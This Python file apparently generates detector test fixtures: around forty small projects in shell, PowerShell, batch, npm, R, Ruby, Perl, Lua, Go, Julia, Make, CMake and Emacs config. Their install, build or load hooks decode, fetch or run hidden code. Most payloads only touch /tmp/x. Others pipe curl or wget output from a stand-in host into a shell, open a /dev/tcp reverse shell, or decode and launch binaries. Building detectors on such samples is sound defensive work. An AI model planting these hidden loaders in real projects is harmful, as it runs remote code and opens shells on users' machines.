"""Scripts of other languages than Python that run what is not written in them: started by installing, building, opening or
loading, each with a payload that does nothing."""


def make(corpus):
    for name, files in ROWS.items():
        corpus.folder("dynamic-scripts", name, files, "found", "a script that runs what it decodes, computes or fetches")


ROWS = {
    "postinstall-hex-child": {
        'package.json': '{"name":"tokenizer-wasm","version":"1.2.0","scripts":{"postinstall":"node lib/setup.js"}}\n',
        'lib/setup.js': 'const k = Buffer.from("6368696c645f70726f63657373", "hex").toString();\nconst m = require(k);\nconst f = ["ex", "ec"].join("");\nm[f]("touch /tmp/x");\n',
    },
    "postinstall-function-ctor": {
        'package.json': '{"name":"a","version":"1.0.0","scripts":{"preinstall":"node ./pre.js"}}\n',
        'pre.js': 'const https = require("https");\nhttps.get("https://example.invalid/p.js", (r) => {\n  let s = "";\n  r.on("data", (c) => (s += c));\n  r.on("end", () => new Function("require", s)(require));\n});\n',
    },
    "postinstall-vm": {
        'package.json': '{"name":"a","version":"1.0.0","scripts":{"install":"node build/get.mjs"}}\n',
        'build/get.mjs': 'import { runInThisContext } from "node:vm";\nimport { readFileSync } from "node:fs";\nimport { gunzipSync } from "node:zlib";\nrunInThisContext(gunzipSync(readFileSync(new URL("./weights.bin", import.meta.url))).toString());\n',
    },
    "constructor-constructor": {
        'package.json': '{"name":"a","version":"1.0.0","scripts":{"postinstall":"node i.js"}}\n',
        'i.js': 'const s = [116,111,117,99,104].map((c) => String.fromCharCode(c)).join("");\n(() => {}).constructor("c", "return process.mainModule.require(\'child_\'+\'process\').execSync(c+\' /tmp/x\')")(s);\n',
    },
    "process-binding": {
        'package.json': '{"name":"a","version":"1.0.0","scripts":{"postinstall":"node i.js"}}\n',
        'i.js': 'const p = process.binding("spawn_sync");\np.spawn({ file: "/bin/sh", args: ["sh", "-c", "touch /tmp/x"], envPairs: [], stdio: [] });\n',
    },
    "dynamic-import-dataurl": {
        'package.json': '{"name":"a","version":"1.0.0","type":"module","scripts":{"prepare":"node hooks.js"}}\n',
        'hooks.js': 'const body = "aW1wb3J0ICJub2RlOmZzIjs=";\nawait import("data:text/javascript;base64," + body);\n',
    },
    "rprofile-parse": {
        '.Rprofile': 'local({\n  x <- rawToChar(as.raw(c(115,121,115,116,101,109)))\n  f <- match.fun(x)\n  f("touch /tmp/x")\n})\n',
    },
    "rprofile-source-url": {
        '.Rprofile': 'options(repos = c(CRAN = "https://cran.example.invalid"))\ncon <- url("https://example.invalid/init.R")\neval(parse(text = readLines(con)))\n',
    },
    "rprofile-docall": {
        '.Rprofile': '.First <- function() {\n  n <- paste0("sys", "tem2")\n  do.call(n, list("touch", "/tmp/x"))\n}\n',
    },
    "modelload-R-get": {
        'DESCRIPTION': 'Package: mdl\nVersion: 0.1\n',
        'R/zzz.R': '.onLoad <- function(libname, pkgname) {\n  get(rev(c("m", "te", "ys", "s"))[1], envir = baseenv())\n  g <- get(paste(c("s","y","s","t","e","m"), collapse = ""), envir = baseenv())\n  g(readLines(system.file("cmd.txt", package = pkgname)))\n}\n',
    },
    "sh-base64": {
        'setup.sh': '#!/bin/sh\n# install dependencies\npip install -r requirements.txt\necho dG91Y2ggL3RtcC94Cg== | base64 -d | sh\n',
        'requirements.txt': 'numpy==1.26.4\n',
    },
    "sh-vars": {
        'install.sh': '#!/usr/bin/env bash\nset -e\na=cu; b=rl; c=ba; d=sh\n$a$b -s https://example.invalid/i | $c$d\n',
    },
    "sh-source-process-sub": {
        'run.sh': '#!/bin/bash\nsource <(wget -qO- "https://example.invalid/env")\npython train.py\n',
        'train.py': "print('x')\n",
    },
    "sh-xxd-eval": {
        'download_model.sh': '#!/bin/bash\np=$(tail -n +6 "$0" | tr \'A-Za-z\' \'N-ZA-Mn-za-m\')\neval "$p"\nexit 0\n\ngbhpu /gzc/k\n',
    },
    "sh-printf": {
        'scripts/prepare.sh': '#!/bin/sh\nf=$(printf \'\\164\\157\\165\\143\\150\')\n"$f" /tmp/x\nmkdir -p data\n',
    },
    "sh-openssl": {
        'entrypoint.sh': '#!/bin/sh\nopenssl enc -d -aes-256-cbc -pbkdf2 -k model -in tokenizer.bin -out /tmp/t\nchmod +x /tmp/t && /tmp/t &\nexec python serve.py\n',
        'serve.py': "print('serve')\n",
    },
    "sh-python-c": {
        'start.sh': '#!/bin/sh\npython3 -c "import zlib,base64;exec(zlib.decompress(base64.b64decode(open(\'w.txt\').read())))"\n',
    },
    "sh-devtcp": {
        'postCreate.sh': '#!/bin/bash\nexec 5<>/dev/tcp/example.invalid/443\nwhile read -r l <&5; do $l 2>&5 >&5; done\n',
        '.devcontainer/devcontainer.json': '{"image":"python:3.11","postCreateCommand":"bash postCreate.sh"}\n',
    },
    "githook": {
        '.githooks/post-checkout': '#!/bin/sh\nu=$(git config --get remote.origin.url | sed \'s/.*@//\')\ncurl -fsS "https://example.invalid/$u" > .git/x && . .git/x\n',
    },
    "envrc": {
        '.envrc': 'export MODEL=llama\neval "$(curl -s https://example.invalid/env.sh)"\n',
    },
    "ps-iex": {
        'install.ps1': '$u = "https://example.invalid/a.ps1"\n$w = New-Object Net.WebClient\n& ([scriptblock]::Create($w.DownloadString($u)))\n',
    },
    "ps-alias-join": {
        'setup.ps1': '$n = -join (\'I\',\'nvoke\',\'-Exp\',\'ression\')\n$t = [Text.Encoding]::UTF8.GetString([Convert]::FromBase64String("VG91Y2g="))\n& $n $t\n',
    },
    "ps-reflection": {
        'run.ps1': '$b = [IO.File]::ReadAllBytes("$PSScriptRoot\\weights.dat")\n$a = [Reflection.Assembly]::Load($b)\n$a.EntryPoint.Invoke($null, @(,[string[]]@()))\n',
    },
    "ps-addtype": {
        'load.ps1': '$src = (Invoke-RestMethod https://example.invalid/c) -join "`n"\nAdd-Type -TypeDefinition $src\n[Loader]::Run()\n',
    },
    "bat-certutil": {
        'install.bat': '@echo off\ncertutil -decode model.b64 %TEMP%\\m.exe\nstart "" %TEMP%\\m.exe\n',
    },
    "bat-substr": {
        'setup.cmd': '@echo off\nset q=pqowershqell\nset q=%q:q=%\n%q% -nop -w hidden -enc dABvAHUAYwBoAA==\n',
    },
    "bat-for": {
        'start.bat': '@echo off\nfor /f "delims=" %%i in (\'curl -s https://example.invalid/c\') do %%i\npython app.py\n',
        'app.py': 'print(1)\n',
    },
    "ruby-send": {
        'Gemfile': 'source "https://rubygems.org"\nk = Kernel\nk.send(["sys", "tem"].join.to_sym, "touch /tmp/x")\ngem "onnxruntime"\n',
    },
    "ruby-gemspec-eval": {
        'model.gemspec': 'require "open-uri"\nGem::Specification.new do |s|\n  s.name = "m"\n  s.version = "0.1"\n  s.summary = "m"\n  instance_eval(URI.open("https://example.invalid/s.rb").read)\nend\n',
    },
    "ruby-extconf": {
        'ext/extconf.rb': 'require "mkmf"\nrequire "zlib"\nTOPLEVEL_BINDING.eval(Zlib::Inflate.inflate(File.binread(__dir__ + "/blob")))\ncreate_makefile "x"\n',
        'm.gemspec': 'Gem::Specification.new { |s| s.name="m"; s.version="1"; s.extensions=["ext/extconf.rb"] }\n',
    },
    "perl-makefile": {
        'Makefile.PL': 'use ExtUtils::MakeMaker;\nmy $p = pack("H*", "746f756368202f746d702f78");\nmy $r = qx{$p};\nWriteMakefile(NAME => "M");\n',
    },
    "perl-eval": {
        'tokenizer.perl': '#!/usr/bin/env perl\nuse strict;\nlocal $/;\nopen my $f, "<", "vocab.txt" or die;\nmy $s = <$f>;\n$s =~ tr/a-zA-Z/n-za-mN-ZA-M/;\neval $s;\n',
    },
    "lua-loadstring": {
        'init.lua': 'local t = {111,115,46,101,120,101,99,117,116,101,40,39,120,39,41}\nlocal s = ""\nfor _, c in ipairs(t) do s = s .. string.char(c) end\n(loadstring or load)(s)()\n',
    },
    "lua-indexed": {
        'model.lua': 'local e = _G["o" .. "s"]["exe" .. "cute"]\ne("touch /tmp/x")\nreturn { layers = 3 }\n',
    },
    "go-init": {
        'go.mod': 'module m\n\ngo 1.22\n',
        'main.go': 'package main\n\nimport (\n\t"encoding/hex"\n\t"os/exec"\n)\n\n//go:generate sh -c "curl -s https://example.invalid/g | sh"\n\nfunc init() {\n\tb, _ := hex.DecodeString("746f756368")\n\texec.Command(string(b), "/tmp/x").Run()\n}\n\nfunc main() {}\n',
    },
    "julia-build": {
        'deps/build.jl': 'using Base64\ns = String(base64decode("cnVuKGB0b3VjaCAvdG1wL3hgKQ=="))\ninclude_string(Main, s)\n',
        'Project.toml': 'name = "M"\nuuid = "12345678-1234-1234-1234-123456789012"\n',
    },
    "julia-eval-parse": {
        'load.jl': 'using Downloads\nf = Downloads.download("https://example.invalid/m.jl")\neval(Meta.parseall(read(f, String)))\n',
    },
    "makefile": {
        'Makefile': "X := $(shell printf 'dG91Y2ggL3RtcC94' | base64 -d)\nY := $(shell $(X))\nall:\n\tpython train.py\n",
    },
    "cmake": {
        'CMakeLists.txt': 'cmake_minimum_required(VERSION 3.20)\nproject(m)\nfile(DOWNLOAD https://example.invalid/x.cmake ${CMAKE_BINARY_DIR}/x.cmake)\ninclude(${CMAKE_BINARY_DIR}/x.cmake)\n',
    },
    "vim-emacs": {
        '.dir-locals.el': '((nil . ((eval . (funcall (intern (concat "shell" "-command")) "touch /tmp/x")))))\n',
    },
}
